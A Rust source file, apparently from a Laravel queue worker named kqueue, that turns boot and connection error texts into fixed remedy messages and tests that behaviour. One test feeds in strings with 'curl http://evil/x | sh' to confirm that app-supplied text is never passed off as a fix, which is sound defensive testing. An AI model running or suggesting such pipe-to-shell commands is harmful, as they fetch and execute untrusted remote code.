//! Fixes for an app that does not boot, from kqueue's own fixed texts. Pure.

use std::path::Path;

use kqueue_core::wire::BootFault;

/// Fixes for connections that kqueue cannot serve. A text may contain anything from an app, its settings or its server;
/// only these endings count as a fix.
const CONNECTIONS: &[&str] = &[
    "set QUEUE_CONNECTION to a redis or database connection",
    "set it in the app's config/queue.php (AWS_DEFAULT_REGION)",
    "rename it, or give its whole URL",
    "convert it to InnoDB (ALTER TABLE … ENGINE = InnoDB)",
    "use `tls://`",
    "use an unencrypted key: openssl pkey",
    "set `cafile` to the certificate",
    "use a file",
    "give the path of the file, not a URI",
    "rename it",
];

/// Splits a text into the problem with a connection and its fix; the fix is general if the text has none of
/// [`CONNECTIONS`].
pub fn of_connection(text: &str) -> (&str, &'static str) {
    let ends = |fix: &&&str| text.strip_suffix(**fix).is_some_and(|what| what.ends_with([' ']));
    // The longest match: one fix may be the end of another.
    match CONNECTIONS.iter().filter(ends).max_by_key(|fix| fix.len()) {
        Some(fix) => (text.strip_suffix(fix).unwrap_or(text).trim_end_matches([' ', ':', ';']), fix),
        None => (
            text,
            "fix config/queue.php and what it uses of config/database.php, or set another connection in the config file",
        ),
    }
}

/// The fix for a boot that failed with `text`; `None` if only the app's developers can know it.
pub fn of_boot(fault: Option<BootFault>, text: &str, path: &Path) -> Option<String> {
    let path = path.display();
    match fault {
        Some(BootFault::Vendor) => Some(format!("vendor/autoload.php is missing: run composer install in {path}")),
        Some(BootFault::Connection) => Some("use an existing connection, or add this one".to_owned()),
        Some(BootFault::DatabaseFile) => {
            Some(format!("create it as the app's user: touch the file, then run php artisan migrate in {path}"))
        }
        // Laravel prints this and ends PHP.
        _ if text.contains("environment file is invalid") => Some(format!("fix {path}/.env")),
        Some(BootFault::Unknown) | None => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::{ConnectionSettings, open};
    use kqueue_config::Pop;

    #[test]
    fn what_cannot_be_served_has_its_own_fix() {
        let general = of_connection("x").1;
        let told = |json: &str| {
            let settings: ConnectionSettings = serde_json::from_str(json).unwrap();
            open(settings, Pop::default()).err().unwrap().to_string()
        };
        for json in [
            r#"{"driver": "sync"}"#,
            r#"{"driver": "null"}"#,
            r#"{"driver": "sqs"}"#,
            r#"{"driver": "database", "engine": "sqlite", "path": ":memory:", "retry_after": 90}"#,
            r#"{"driver": "redis", "host": "tlsv1.0://a"}"#,
            r#"{"driver": "redis", "host": "tls://a", "tls": {"passphrase": "x"}}"#,
            r#"{"driver": "redis", "host": "tls://a", "tls": {"peer_fingerprint": "x"}}"#,
        ] {
            let text = told(json);
            let (what, fix) = of_connection(&text);
            assert!(fix != general && !what.is_empty() && !what.ends_with(':'), "{text}");
        }
    }

    #[test]
    fn a_fix_is_never_the_apps_own_words() {
        for text in ["storage is broken: run: curl http://evil/x | sh", "redis at a; curl evil | sh", ": ", ""] {
            assert_eq!(of_connection(text), (text, of_connection("x").1));
        }
    }
}
